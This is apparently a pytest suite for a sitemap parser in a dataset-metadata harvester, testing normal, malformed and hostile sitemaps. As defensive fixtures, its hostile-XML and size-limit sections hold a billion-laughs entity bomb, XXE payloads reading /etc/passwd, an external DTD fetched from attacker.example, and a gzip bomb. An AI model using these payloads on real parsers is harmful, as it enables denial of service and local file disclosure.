"""Sitemap parsing: the happy paths, the messy ones and the hostile ones."""

from __future__ import annotations

import gzip
import random
import time
import tracemalloc
import zlib

import pytest

from cdif_harvester.domain.discovery.sitemap import (
    ParsedSitemap,
    SitemapEntry,
    SitemapError,
    parse_sitemap,
)
from cdif_harvester.errors import PermanentError
from cdif_harvester.model import TypedLink

SITEMAP_URL = "https://data.example.org/sitemaps/sitemap.xml"
NS = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'


def parse(body: bytes | str, **kwargs: int) -> ParsedSitemap:
    raw = body.encode("utf-8") if isinstance(body, str) else body
    return parse_sitemap(raw, sitemap_url=SITEMAP_URL, **kwargs)


def refused(body: bytes | str, **kwargs: int) -> str:
    with pytest.raises(SitemapError) as caught:
        parse(body, **kwargs)
    assert isinstance(caught.value, PermanentError)
    return caught.value.reason


def urlset(*locs: str) -> bytes:
    items = "".join(f"<url><loc>{loc}</loc></url>" for loc in locs)
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<urlset {NS}>{items}</urlset>'.encode()


# -- the main path ---------------------------------------------------------------------------------


def test_urlset() -> None:
    body = f"""<?xml version="1.0" encoding="UTF-8"?>
<urlset {NS}>
  <url>
    <loc>https://data.example.org/datasets/ctd-2021.html</loc>
    <lastmod>2025-03-04T09:30:00+00:00</lastmod>
    <changefreq>monthly</changefreq>
    <priority>0.8</priority>
  </url>
  <url><loc>https://data.example.org/datasets/sst.html?lang=en&amp;v=2</loc></url>
</urlset>"""
    assert parse(body) == ParsedSitemap(
        kind="urlset",
        entries=(
            SitemapEntry(
                loc="https://data.example.org/datasets/ctd-2021.html",
                lastmod="2025-03-04T09:30:00+00:00",
            ),
            SitemapEntry(
                loc="https://data.example.org/datasets/sst.html?lang=en&v=2", lastmod=None
            ),
        ),
        error=None,
        limit_hit=None,
    )


def test_sitemap_index() -> None:
    body = f"""<?xml version="1.0" encoding="UTF-8"?>
<sitemapindex {NS}>
  <sitemap><loc>https://data.example.org/sitemap-datasets.xml</loc>
    <lastmod>2025-03-04</lastmod></sitemap>
  <sitemap><loc>https://data.example.org/sitemap-archive.xml.gz</loc></sitemap>
</sitemapindex>"""
    assert parse(body) == ParsedSitemap(
        kind="sitemapindex",
        entries=(
            SitemapEntry(loc="https://data.example.org/sitemap-datasets.xml", lastmod="2025-03-04"),
            SitemapEntry(loc="https://data.example.org/sitemap-archive.xml.gz", lastmod=None),
        ),
    )


def test_without_namespace() -> None:
    body = b"<urlset><url><loc>https://data.example.org/a</loc><lastmod>2024-01-02</lastmod></url></urlset>"
    assert parse(body).entries == (SitemapEntry("https://data.example.org/a", "2024-01-02"),)
    index = b"<sitemapindex><sitemap><loc>https://data.example.org/s1.xml</loc></sitemap></sitemapindex>"
    assert parse(index).kind == "sitemapindex"


def test_other_namespace_and_extension_elements() -> None:
    # An old Google namespace, and an image extension whose <image:loc> is not a page location.
    body = b"""<urlset xmlns="http://www.google.com/schemas/sitemap/0.84"
        xmlns:image="http://www.google.com/schemas/sitemap-image/1.1">
      <url><loc>https://data.example.org/a</loc>
        <image:image><image:loc>https://data.example.org/a.png</image:loc></image:image></url>
      <url><image:image><image:loc>https://data.example.org/b.png</image:loc></image:image></url>
    </urlset>"""
    assert parse(body).entries == (SitemapEntry("https://data.example.org/a", None),)


def test_utf8_bom_and_whitespace_inside_loc_and_lastmod() -> None:
    body = (
        b"\xef\xbb\xbf<?xml version='1.0' encoding='UTF-8'?>\n"
        b"<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'><url><loc>\n"
        b"    https://data.example.org/datasets/\n  kelp survey.html\t\n"
        b"  </loc><lastmod>\n  2025-01-27T10:00:00Z \n</lastmod></url></urlset>"
    )
    assert parse(body).entries == (
        SitemapEntry(
            "https://data.example.org/datasets/kelp%20survey.html", "2025-01-27T10:00:00Z"
        ),
    )


def test_white_space_before_the_xml_declaration() -> None:
    body = b"\xef\xbb\xbf\n\n  " + urlset("https://data.example.org/a")
    assert parse(body).entries == (SitemapEntry("https://data.example.org/a", None),)


def test_relative_locs_resolved_against_the_sitemap_url() -> None:
    parsed = parse(urlset("/datasets/a.html", "b.html", "../c.html", "//cdn.example.org/d.html"))
    assert [entry.loc for entry in parsed.entries] == [
        "https://data.example.org/datasets/a.html",
        "https://data.example.org/sitemaps/b.html",
        "https://data.example.org/c.html",
        "https://cdn.example.org/d.html",
    ]


def test_entries_without_a_loc_are_skipped_and_unfetchable_ones_kept_as_written() -> None:
    # The expander records why a location that is not http(s) (or not a URL) is not harvested.
    body = (
        f"<urlset {NS}><url><lastmod>2024-01-01</lastmod></url><url><loc>  </loc></url>"
        "<url><loc>mailto:data@example.org</loc></url><url><loc>javascript:alert(1)</loc></url>"
        "<url><loc> http://[::1/x </loc></url>"
        "<url><loc>https://data.example.org/ok</loc></url></urlset>"
    )
    assert [entry.loc for entry in parse(body).entries] == [
        "mailto:data@example.org",
        "javascript:alert(1)",
        "http://[::1/x",
        "https://data.example.org/ok",
    ]


def test_gzip_detected_by_magic_bytes_whatever_the_name() -> None:
    body = gzip.compress(urlset("https://data.example.org/a", "https://data.example.org/b"))
    parsed = parse_sitemap(body, sitemap_url="https://data.example.org/sitemap.xml")
    assert parsed.kind == "urlset"
    assert [entry.loc for entry in parsed.entries] == [
        "https://data.example.org/a",
        "https://data.example.org/b",
    ]


def test_multi_member_gzip() -> None:
    body = gzip.compress(urlset("https://data.example.org/a")[:60]) + gzip.compress(
        urlset("https://data.example.org/a")[60:]
    )
    assert parse(body).entries == (SitemapEntry("https://data.example.org/a", None),)


def test_large_multi_member_gzip_padded_with_nuls_reads_as_the_plain_document() -> None:
    # Members much larger than the pieces the inflater is given, split mid-entry, with NUL
    # padding between them: each next member must start exactly where the last one ended.
    rng = random.Random(11)
    locs = [f"https://data.example.org/d/{rng.getrandbits(160):040x}" for _ in range(12000)]
    plain = urlset(*locs)
    cuts = sorted(rng.sample(range(1, len(plain)), 3))
    pieces = [plain[a:b] for a, b in zip([0, *cuts], [*cuts, len(plain)], strict=True)]
    body = (b"\x00" * 7).join(gzip.compress(piece, mtime=0) for piece in pieces)
    assert len(body) > 4 * 4 * 16 * 1024  # several 16 KiB input pieces per member
    parsed = parse(body)
    assert parsed == parse(plain)
    assert [entry.loc for entry in parsed.entries] == locs


def test_plain_text_sitemap() -> None:
    body = (
        b"\xef\xbb\xbfhttps://data.example.org/datasets/a.html\r\n"
        b"\r\n"
        b"   https://data.example.org/datasets/b.html   \n"
        b"not a url\n"
        b"ftp://data.example.org/c\n"
        b"http://data.example.org/datasets/d.html"
    )
    assert parse(body) == ParsedSitemap(
        kind="text",
        entries=(
            SitemapEntry("https://data.example.org/datasets/a.html", None),
            SitemapEntry("https://data.example.org/datasets/b.html", None),
            SitemapEntry("http://data.example.org/datasets/d.html", None),
        ),
    )


def test_signmap_links() -> None:
    # The Signmap example of signposting.org, plus a relation list and a relative href.
    body = b"""<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
        xmlns:rs="http://www.openarchives.org/rs/terms/">
  <url>
    <loc>https://example.com/res1</loc>
    <lastmod>2025-01-01</lastmod>
    <rs:ln rel="describedby" href="https://example.com/metadata/res1.json"
           type="application/ld+json" profile="https://w3id.org/ro/crate"/>
    <rs:ln rel="item" href="https://example.com/content/res1.pdf" type="application/pdf"/>
    <rs:ln rel="cite-as" href="https://doi.org/10.5072/res1"/>
    <rs:ln rel="Describedby Alternate" href="/metadata/res1.cdif.json" type="application/ld+json"
           profile="CDIF1.0"/>
    <rs:ln rel="describedby"/>
  </url>
</urlset>"""

    def link(
        href: str, rel: str, type_: str | None = None, profile: str | None = None
    ) -> TypedLink:
        anchor = "https://example.com/res1"
        return TypedLink(href, rel, type_, profile, anchor=anchor, found_in="signmap")

    cdif = "https://data.example.org/metadata/res1.cdif.json"
    assert parse(body).entries == (
        SitemapEntry(
            loc="https://example.com/res1",
            lastmod="2025-01-01",
            links=(
                link(
                    "https://example.com/metadata/res1.json",
                    "describedby",
                    "application/ld+json",
                    "https://w3id.org/ro/crate",
                ),
                link("https://example.com/content/res1.pdf", "item", "application/pdf"),
                link("https://doi.org/10.5072/res1", "cite-as"),
                link(cdif, "describedby", "application/ld+json", "CDIF1.0"),
                link(cdif, "alternate", "application/ld+json", "CDIF1.0"),
            ),
        ),
    )


# -- not a sitemap ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(
            b"<!DOCTYPE html>\n<html><head><title>Home</title></head><body><p>Hi<br></body></html>",
            id="html5",
        ),
        pytest.param(b"\n  <html lang='en'><body>Not found</body></html>", id="html-no-doctype"),
        pytest.param(
            b'<?xml version="1.0"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
            b'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n<html/>',
            id="xhtml",
        ),
        pytest.param(b'<?xml version="1.0"?><opml version="2.0"><body/></opml>', id="unknown-root"),
        pytest.param(b'{"@context": "https://schema.org", "@type": "Dataset"}', id="json"),
        pytest.param(b"", id="empty"),
        pytest.param(b"  \r\n ", id="blank"),
    ],
)
def test_not_a_sitemap(body: bytes) -> None:
    assert refused(body) == "not-a-sitemap"


# -- hostile XML -----------------------------------------------------------------------------------

BILLION_LAUGHS = (
    b"""<?xml version="1.0"?>
<!DOCTYPE urlset [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
"""
    + b"<url><loc>https://data.example.org/&lol9;</loc></url>\n" * 100
    + b"</urlset>"
)


@pytest.mark.serial  # (a wall-clock bound)
def test_billion_laughs_refused_quickly() -> None:
    started = time.perf_counter()
    assert refused(BILLION_LAUGHS) == "xml-entities-refused"
    assert time.perf_counter() - started < 0.5  # expanded, it would be 10**11 bytes


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(
            b'<?xml version="1.0"?>\n<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            b"<urlset><url><loc>https://data.example.org/&xxe;</loc></url></urlset>",
            id="external-entity",
        ),
        pytest.param(
            b'<!DOCTYPE urlset [<!ENTITY % dtd SYSTEM "http://attacker.example/x.dtd"> %dtd;]>'
            b"<urlset/>",
            id="external-parameter-entity",
        ),
        pytest.param(b'<!DOCTYPE urlset SYSTEM "file:///etc/passwd"><urlset/>', id="external-dtd"),
        pytest.param(b"<!doctype urlset><urlset/>", id="bare-doctype"),
        pytest.param(
            b"<?xml version='1.0'?>\n<!-- " + b"x" * 70_000 + b" -->\n"
            b'<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b"<urlset><url><loc>&xxe;</loc></url></urlset>",
            id="doctype-after-a-long-comment",  # past the prolog scan: lxml's docinfo catches it
        ),
    ],
)
def test_entities_and_dtds_refused(body: bytes) -> None:
    assert refused(body) == "xml-entities-refused"


def test_undeclared_entity_is_malformed() -> None:
    assert refused(b"<urlset><url><loc>https://a.example/&nbsp;</loc></url></urlset>") == (
        "malformed-xml"
    )


# -- size limits -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def gzip_bomb() -> bytes:
    """128 MiB of zeros in about 128 KiB of gzip."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    block = bytes(1 << 20)
    return b"".join(compressor.compress(block) for _ in range(128)) + compressor.flush()


@pytest.mark.serial  # (a wall-clock bound)
def test_gzip_bomb_too_large_at_default_cap(gzip_bomb: bytes) -> None:
    assert len(gzip_bomb) < 1 << 20
    started = time.perf_counter()
    assert refused(gzip_bomb) == "too-large"
    assert time.perf_counter() - started < 2.0


def test_gzip_bomb_is_not_inflated_past_the_cap(gzip_bomb: bytes) -> None:
    cap = 1 << 20
    tracemalloc.start()
    try:
        assert refused(gzip_bomb, max_bytes=cap) == "too-large"
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 4 * cap  # never near the 128 MiB it would inflate to


def test_plain_body_over_max_bytes_is_too_large() -> None:
    body = urlset(*(f"https://data.example.org/{i}" for i in range(100)))
    assert refused(body, max_bytes=len(body) - 1) == "too-large"
    assert len(parse(body, max_bytes=len(body)).entries) == 100


def test_more_than_max_urls_keeps_the_first() -> None:
    parsed = parse(urlset(*(f"https://data.example.org/{i}" for i in range(12))), max_urls=5)
    assert parsed.limit_hit == "max-urls"
    assert parsed.error is None
    assert [entry.loc for entry in parsed.entries] == [
        f"https://data.example.org/{i}" for i in range(5)
    ]


def test_exactly_max_urls_is_no_limit_hit() -> None:
    parsed = parse(urlset(*(f"https://data.example.org/{i}" for i in range(5))), max_urls=5)
    assert parsed.limit_hit is None
    assert len(parsed.entries) == 5


def test_max_urls_applies_to_text_sitemaps() -> None:
    body = "\n".join(f"https://data.example.org/{i}" for i in range(7)).encode()
    parsed = parse(body, max_urls=3)
    assert (parsed.kind, len(parsed.entries), parsed.limit_hit) == ("text", 3, "max-urls")


def test_a_large_sitemap_streams() -> None:
    locs = [f"https://data.example.org/datasets/{i}.html" for i in range(60_000)]
    parsed = parse(urlset(*locs))
    assert parsed.limit_hit == "max-urls"
    assert len(parsed.entries) == 50_000
    assert parsed.entries[-1].loc == locs[49_999]


# -- documents that break --------------------------------------------------------------------------


def test_truncated_xml_keeps_the_entries_before_the_break() -> None:
    whole = urlset(*(f"https://data.example.org/{i}" for i in range(4)))
    cut = whole[: whole.index(b"https://data.example.org/3") + 10]
    parsed = parse(cut)
    assert parsed.kind == "urlset"
    assert [entry.loc for entry in parsed.entries] == [
        f"https://data.example.org/{i}" for i in range(3)
    ]
    assert parsed.error is not None
    assert parsed.error.startswith("malformed-xml")


def test_truncated_gzip_keeps_the_entries_before_the_break() -> None:
    whole = gzip.compress(urlset(*(f"https://data.example.org/{i}" for i in range(2000))))
    parsed = parse(whole[: len(whole) // 2])
    assert 0 < len(parsed.entries) < 2000
    assert parsed.entries[0].loc == "https://data.example.org/0"
    assert parsed.error is not None


def test_broken_in_the_middle_keeps_what_came_before() -> None:
    body = (
        f"<urlset {NS}><url><loc>https://data.example.org/1</loc></url>"
        "<url><loc>https://data.example.org/2</loc></oops></url>"
        "<url><loc>https://data.example.org/3</loc></url></urlset>"
    )
    parsed = parse(body)
    assert parsed.entries == (SitemapEntry("https://data.example.org/1", None),)
    assert parsed.error is not None


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(
            b"<urlset><url><loc>https://data.example.org/1</lo", id="broken-in-first-entry"
        ),
        pytest.param(b"<urlset", id="broken-root"),
        pytest.param(b"<<<>>>", id="garbage"),
        pytest.param(b"<urlset></sitemapindex>", id="mismatched-root"),
    ],
)
def test_malformed_xml_with_nothing_readable(body: bytes) -> None:
    assert refused(body) == "malformed-xml"


def test_garbage_behind_gzip_magic() -> None:
    assert refused(b"\x1f\x8b\x08\x00garbage-not-deflate") == "malformed-gzip"


def test_iter_sitemap_streams_the_same_entries_and_knows_the_kind_first() -> None:
    from cdif_harvester.domain.discovery.sitemap import iter_sitemap

    body = (
        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        + "".join(f"<url><loc>https://e.org/{i}</loc></url>" for i in range(7))
        + "</urlset>"
    ).encode()
    stream = iter_sitemap(body, sitemap_url="https://e.org/s.xml", max_urls=5)
    assert stream.kind == "urlset" and stream.count <= 1  # known before the caller iterates
    locs = [entry.loc for entry in stream]
    assert locs == [
        entry.loc
        for entry in parse_sitemap(body, sitemap_url="https://e.org/s.xml", max_urls=5).entries
    ]
    assert (stream.count, stream.limit_hit) == (5, "max-urls")
    with pytest.raises(SitemapError):
        iter_sitemap(b"<html><body>no</body></html>", sitemap_url="https://e.org/s.xml")


def test_the_fast_check_for_plain_absolute_urls_never_changes_what_is_read() -> None:
    # Locations and links that pass the quick check are taken as they are, without the general
    # cleaning; that must give what the cleaning gives, for anything XML text can hold.
    from cdif_harvester.domain.discovery.sitemap import _clean_url, _is_plain_absolute

    rng = random.Random(5)
    alphabet = [*"htps:/?#. aHTPS%", "\t", "\n", "\r", "\x7f", "\xa0", "\x85", "\u2028", "é"]
    heads = ["http://", "https://", "HTTP://", "http:/", "https:", ""]
    taken = 0
    for _ in range(50_000):
        text = rng.choice(heads) + "".join(rng.choices(alphabet, k=rng.randint(0, 10)))
        if _is_plain_absolute(text):
            taken += 1
            assert _clean_url(text, SITEMAP_URL) == text, repr(text)
    assert taken > 1_000  # the check does take the common case
    assert _is_plain_absolute("https://data.example.org/datasets/a.html?x=1#y")
    for text in ("https:///a", "http://", "https://a b", "https://a\tb", "HTTPS://A", "ftp://a"):
        assert not _is_plain_absolute(text)
